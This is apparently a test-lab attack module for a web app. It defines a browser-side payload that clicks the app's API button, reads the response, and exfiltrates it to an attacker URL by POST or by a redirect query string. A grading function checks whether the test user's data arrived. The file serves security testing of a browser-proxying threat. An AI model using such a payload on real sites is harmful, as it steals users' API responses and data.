import { ada } from "../../../dev-provider/src/users.js";
import { attack } from "../attack.js";

export default attack({
  name: "calls the API as the app does",
  threat: "proxying through the user's browser",
  target: "any",
  alone: true,
  async payload(it) {
    // Use the app's own button.
    document.getElementById("call")?.click();
    let answer = "";
    for (let tries = 0; tries < 250 && !answer; tries++) {
      await it.pause(20);
      answer = document.querySelector("output")?.value ?? "";
    }
    const response = await fetch(`${it.attackerUrl}/answer`, {
      method: "POST",
      mode: "no-cors",
      body: answer,
    }).catch(() => undefined);
    if (response) return;
    location.href = `${it.attackerUrl}/answer?${new URLSearchParams({ answer })}`;
    await it.pause(500);
  },
  async gain({ lab, attackerPath }) {
    return lab.attacker.takeBodies(`${attackerPath}/answer`).some((body) => body.includes(ada.sub))
      ? "the API's answer to the user"
      : undefined;
  },
});
